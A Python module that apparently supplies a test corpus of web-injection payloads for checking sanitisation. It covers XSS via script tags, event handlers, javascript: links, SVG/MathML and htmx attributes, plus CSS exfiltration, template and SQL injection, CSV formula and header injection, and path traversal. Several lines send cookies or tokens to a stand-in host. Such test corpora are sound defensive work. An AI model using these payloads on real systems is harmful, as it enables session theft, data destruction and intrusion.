"""What somebody might write so that a browser, a template or a mail program does something: `ran()`, if it can.

None is copied from a list. Where a payload wants a word of one's own, it is `ran`.
"""

SCRIPTS = r"""
<script>ran()</script>
<SCRIPT>ran()</SCRIPT>
<ScRiPt >ran()</sCrIpT >
<script	>ran()</script	>
<script/x>ran()</script>
<script type=module>ran()</script>
<script type="text/javascript">ran()</script>
<script async src=data:text/javascript,ran()></script>
<script src="data:text/javascript;base64,cmFuKCk="></script>
<script src=//elsewhere.example/x.js></script>
<script src="https://elsewhere.example/x.js"></script>
<script>window['ran']()</script>
<script>eval('ra'+'n()')</script>
<script>setTimeout('ran()',0)</script>
<script>Function('ran()')()</script>
<script>alert(1)</script>
<script>confirm`1`</script>
<script>import('data:text/javascript,ran()')</script>
<script>fetch('/ran/1')</script>
<script>new Image().src='//elsewhere.example/?'+document.cookie</script>
<script>document.write('<img src=x onerror=ran()>')</script>
<script>location='javascript:ran()'</script>
<script>\u0072an()</script>
<scr<script>ipt>ran()</scr</script>ipt>
<<script>ran()//<</script>
"><script>ran()</script>
'><script>ran()</script>
`><script>ran()</script>
</script><script>ran()</script>
</title><script>ran()</script>
</textarea><script>ran()</script>
</style><script>ran()</script>
</noscript><script>ran()</script>
</option></select><script>ran()</script>
--><script>ran()</script>
--!><script>ran()</script>
]]><script>ran()</script>
?><script>ran()</script>
%><script>ran()</script>
*/</script><script>ran()</script>
</p></div></main></body><script>ran()</script>
"""
HANDLERS = r"""
<img src=x onerror=ran()>
<img src=x onerror="ran()">
<img src=x onerror='ran()'>
<img src=x onerror=`ran()`>
<img/src=x/onerror=ran()>
<img src=x ONERROR=ran()>
<img src=x onerror=&#114;an()>
<img src=x onerror=&#x72;&#x61;&#x6e;&lpar;&rpar;>
<img src=x onerror=self['ra\x6e']()>
<img src=x onerror=alert(1)>
<img src=x onerror=prompt(1)>
<img src=x:x onerror=ran()//
<img srcset=x onerror=ran()>
<image src=x onerror=ran()>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=ran()>
<picture><source srcset=x><img onerror=ran() src=x></picture>
<body onload=ran()>
<body onpageshow=ran()>
<video src=x onerror=ran()></video>
<video><source onerror=ran()></video>
<audio src=x onerror=ran()></audio>
<input autofocus onfocus=ran()>
<textarea autofocus onfocus=ran()></textarea>
<select autofocus onfocus=ran()></select>
<button autofocus onfocus=ran()>x</button>
<p tabindex=1 autofocus onfocus=ran()>x</p>
<p contenteditable autofocus onfocus=ran()>x</p>
<details open ontoggle=ran()>x</details>
<a onmouseover=ran()>x</a>
<b onmouseenter=ran()>x</b>
<b onpointerover=ran()>x</b>
<b onpointerenter=ran()>x</b>
<b onclick=ran()>x</b>
<b onwheel=ran()>x</b>
<b oncopy=ran()>x</b>
<b onbeforeinput=ran() contenteditable>x</b>
<input type=image src=x onerror=ran()>
<input oninput=ran()>
<input onchange=ran()>
<form onsubmit=ran()><button>x</button></form>
<object data=x onerror=ran()></object>
<embed src=x onload=ran()>
<iframe onload=ran()></iframe>
<iframe srcdoc="x" onload=ran()></iframe>
<link rel=stylesheet href=x onerror=ran()>
<style onload=ran()></style>
<script src=x onerror=ran()></script>
<marquee onstart=ran()>x</marquee>
<dialog open onclose=ran()>x</dialog>
<track onerror=ran()>
" onmouseover="ran()
" onmouseover=ran() x="
" autofocus onfocus="ran()" x="
' onmouseover='ran()
' autofocus onfocus='ran()' x='
" onclick="ran()" style="position:fixed;inset:0" x="
"><img src=x onerror=ran()>
'><img src=x onerror=ran()>
"/><b onmouseover=ran()>x</b>
x onmouseover=ran()
"accesskey="x" onclick="ran()
"oncontentvisibilityautostatechange="ran()" style="content-visibility:auto
"onanimationstart="ran()" style="animation:x
"hidden onbeforematch="ran()
"""
LINKS = r"""
javascript:ran()
JavaScript:ran()
javascript&colon;ran()
java	script:ran()
&#106;avascript:ran()
javascript://x%0aran()
javascript://elsewhere.example/%0Aran()
javascript:'<script>ran()</script>'
data:text/html,<script>ran()</script>
data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==
vbscript:ran()
//elsewhere.example/
https://elsewhere.example/
https:elsewhere.example
\\elsewhere.example\x
<a href=javascript:ran()>x</a>
<a href="JaVaScRiPt:ran()">x</a>
<a href="java&Tab;script:ran()">x</a>
<a href="java&NewLine;script:ran()">x</a>
<a href="&#x1;javascript:ran()">x</a>
<a href="data:text/html,<script>ran()</script>">x</a>
<a href=//elsewhere.example ping=//elsewhere.example/ping>x</a>
<area href=javascript:ran()>
<form action=javascript:ran()><button>x</button></form>
<form><button formaction=javascript:ran()>x</button></form>
<input type=submit formaction=javascript:ran()>
<isindex action=javascript:ran() type=submit>
<iframe src=javascript:ran()></iframe>
<iframe src="data:text/html,<script>parent.ran()</script>"></iframe>
<iframe srcdoc="<script>parent.ran()</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.ran()&lt;/script&gt;"></iframe>
<object data="data:text/html,<script>parent.ran()</script>"></object>
<object data=javascript:ran()></object>
<embed src="data:text/html,<script>parent.ran()</script>">
<frameset><frame src=javascript:ran()></frameset>
<base href=//elsewhere.example/>
<base href="javascript:/">
<meta http-equiv=refresh content="0;url=//elsewhere.example/">
<meta http-equiv=refresh content="0;url=javascript:ran()">
<meta http-equiv=set-cookie content="session=mine">
<meta http-equiv=Content-Security-Policy content="script-src *">
<img src=//elsewhere.example/spy.png>
<img srcset="//elsewhere.example/spy.png 1x">
<video poster=//elsewhere.example/spy.png></video>
<link rel=stylesheet href=//elsewhere.example/x.css>
<link rel=prefetch href=//elsewhere.example/x>
<link rel=manifest href=//elsewhere.example/x>
<table background=//elsewhere.example/spy.png><tr><td>x</table>
<body background=//elsewhere.example/spy.png>
<input type=image src=//elsewhere.example/spy.png>
<form action=//elsewhere.example/><input name=csrfmiddlewaretoken></form>
" src="//elsewhere.example/spy.png
" formaction="//elsewhere.example/
[x](javascript:ran())
[x](data:text/html,<script>ran()</script>)
![x](//elsewhere.example/spy.png)
![x](x"onerror="ran())
<javascript:ran()>
[x]: javascript:ran()
"""
DRAWN = r"""
<svg onload=ran()>
<svg/onload=ran()>
<svg><script>ran()</script></svg>
<svg><script href=data:text/javascript,ran() /></svg>
<svg><script xlink:href=data:text/javascript,ran() /></svg>
<svg><script>&#114;an()</script></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set onbegin=ran() attributeName=x>
<svg><image href=x onerror=ran()>
<svg><image href=//elsewhere.example/spy.png>
<svg><use href="data:image/svg+xml,<svg id=x><script>ran()</script></svg>#x">
<svg><a xlink:href=javascript:ran()><text y=9>x</text></a>
<svg><a><animate attributeName=href values=javascript:ran() /><text y=9>x</text></a>
<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>
<svg><style><img src=x onerror=ran()></style></svg>
<svg><title><img src=x onerror=ran()></title></svg>
<svg><desc><script>ran()</script></desc></svg>
<svg><![CDATA[><img src=x onerror=ran()>]]></svg>
<svg></p><style><a id="</style><img src=x onerror=ran()>">
</text></svg><img src=x onerror=ran()>
</title></svg><script>ran()</script>
<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>
<math href=javascript:ran()>x</math>
<math><mi xlink:href=javascript:ran()>x</mi></math>
<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=ran()>">
<template><img src=x onerror=ran()></template>
<b><template shadowrootmode=open><img src=x onerror=ran()></template></b>
<xmp><p title="</xmp><img src=x onerror=ran()>">
<textarea><p title="</textarea><img src=x onerror=ran()>">
<style><!--</style><img src=x onerror=ran()>
<!--><img src=x onerror=ran()>
<!---><img src=x onerror=ran()>
<!--x--!><img src=x onerror=ran()>
<![if !x]><img src=x onerror=ran()>
<?xml-stylesheet href="javascript:ran()"?>
<select><style></select><img src=x onerror=ran()></style>
<table><caption><select><img src=x onerror=ran()>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>
<p style="<!--"><img src=x onerror=ran() title="-->">
<xss id=x tabindex=1 onfocus=ran()></xss>
<is-a-card onclick=ran()>x</is-a-card>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script>
"""
STYLES = r"""
<style>*{background:url(//elsewhere.example/spy.png)}</style>
<style>@import '//elsewhere.example/x.css';</style>
<style>body{display:none!important}</style>
<style>input[value^=a]{background:url(//elsewhere.example/a)}</style>
<style>@font-face{font-family:x;src:url(//elsewhere.example/x)}*{font-family:x}</style>
<p style=background:url(//elsewhere.example/spy.png)>x</p>
<p style="background:url(javascript:ran())">x</p>
<p style="width:expression(ran())">x</p>
<p style="-moz-binding:url(//elsewhere.example/x.xml)">x</p>
<p style="position:fixed;inset:0;z-index:9">over everything</p>
<p style=animation:x onanimationstart=ran()>x</p>
<b style="transition:all 1s" ontransitionend=ran()>x</b>
<link rel=stylesheet href="data:text/css,*{display:none}">
red;background:url(//elsewhere.example/spy.png)
red}*{background:url(//elsewhere.example/spy.png)}
expression(ran())
" style="background:url(//elsewhere.example/spy.png)
' style='position:fixed;inset:0
<svg><style>*{background:url(//elsewhere.example/spy.png)}</style></svg>
<table style=display:none><tr><td>
"""
HTMX = r"""
<p hx-get=/ran/1 hx-trigger=load>x</p>
<p data-hx-get=/ran/1 data-hx-trigger=load>x</p>
<p hx-post=/ran/1 hx-trigger=load>x</p>
<p hx-put=/ran/1 hx-trigger="load delay:1ms">x</p>
<p hx-delete=/ran/1 hx-trigger=revealed>x</p>
<p hx-patch=/ran/1 hx-trigger="intersect once">x</p>
<p hx-get=/ran/1 hx-trigger="every 1ms">x</p>
<p hx-get=//elsewhere.example/ hx-trigger=load>x</p>
<p hx-get="data:text/html,<script>ran()</script>" hx-trigger=load>x</p>
<p hx-get=javascript:ran() hx-trigger=load>x</p>
<p hx-on:click=ran()>x</p>
<p hx-on::load=ran()>x</p>
<p hx-on--load=ran()>x</p>
<p data-hx-on-htmx-load=ran()>x</p>
<p hx-on="htmx:load: ran()">x</p>
<p hx-get=/ran/1 hx-trigger="load[ran()]">x</p>
<p hx-get=/ran/1 hx-trigger=load hx-vals="js:{x:ran()}">x</p>
<p hx-get=/ran/1 hx-trigger=load hx-headers="javascript:{x:ran()}">x</p>
<p hx-get=/ran/1 hx-trigger=load hx-vars="x:ran()">x</p>
<p hx-get=/ran/1 hx-trigger=load hx-request='js:{"timeout":ran()}'>x</p>
<p hx-ext=ran hx-get=/ran/1 hx-trigger=load>x</p>
<p hx-boost=true><a href=/ran/1>x</a></p>
<p sse-connect=/ran/1 hx-ext=sse>x</p>
<p ws-connect=//elsewhere.example hx-ext=ws>x</p>
<meta name=htmx-config content='{"allowEval":true,"selfRequestsOnly":false}'>
<p hx-confirm=x hx-get=/ran/1 hx-trigger=load>x</p>
<p hx-prompt=x hx-get=/ran/1 hx-trigger=load>x</p>
" hx-get="/ran/1" hx-trigger="load
' hx-get='/ran/1' hx-trigger='load
" hx-get="/ran/1" hx-trigger="load" hx-target="body
" hx-on::load="ran()
"><p hx-get=/ran/1 hx-trigger=load>x</p>
<p id=main data-live data-quick-exit href=//elsewhere.example/>x</p>
<a data-quick-exit href=javascript:ran()>x</a>
<b data-step=up>x</b>
<p id=js_data>{"x":"ran()"}</p>
"""
# A browser has nothing to do with these: they are shown as they were written, or they are a hole on the server.
QUIET = r"""
{{7*7}}
{{ 7|add:42 }}
{% now "Y" %}
{% include "base.html" %}
{% load static %}{% debug %}
{{ request.user.email }}
{{ settings.SECRET_KEY }}
{# gone #}
${7*7}
#{7*7}
<%= 7*7 %>
@{7*7}
[[7*7]]
{{constructor.constructor('ran()')()}}
%s %(name)s %d %n
{0} {name} {0.__class__}
%7B%7B7*7%7D%7D
%3Cscript%3Eran()%3C/script%3E
&lt;script&gt;ran()&lt;/script&gt;
&amp;lt;script&amp;gt;ran()
&#60;script&#62;ran()&#60;/script&#62;
\u003cscript\u003eran()\u003c/script\u003e
\x3cscript\x3eran()\x3c/script\x3e
＜script＞ran()＜/script＞
ʺ onmouseover=ꓽran()
+ADw-script+AD4-ran()+ADw-/script+AD4-
';ran();'
";ran();"
`;ran();`
\";ran();//
${ran()}
'-ran()-'
"-ran()-"
'); DROP TABLE profiles_member;--
" OR "1"="1
=HYPERLINK("//elsewhere.example/","x")
=cmd|'/c calc'!A0
BEGIN:VALARM ACTION:PROCEDURE END:VALARM
\nATTENDEE:mailto:x@elsewhere.example
%0d%0aSet-Cookie:%20session=mine
../../../../etc/passwd
{"__proto__":{"x":1}}
__proto__
"""
# Refused by every form, as nobody could see them; a refused page shows what was typed all the same.
REFUSED = [
    "<scr\0ipt>ran()</scr\0ipt>",
    "<img src=x o\0nerror=ran()>",
    "java\0script:ran()",
    "<img\x0bsrc=x\x0conerror=ran()>",
    "\x1b]8;;//elsewhere.example\x07x",
    "\0<script>ran()</script>",
    "<a href=\x01javascript:ran()>x</a>",
    "<\x7fscript>ran()</script>",
]


def lines(text: str) -> list[str]:
    return text.strip().split("\n")


ACTIVE = [payload for text in (SCRIPTS, HANDLERS, LINKS, DRAWN, STYLES, HTMX) for payload in lines(text)]
PAYLOADS = ACTIVE + lines(QUIET)
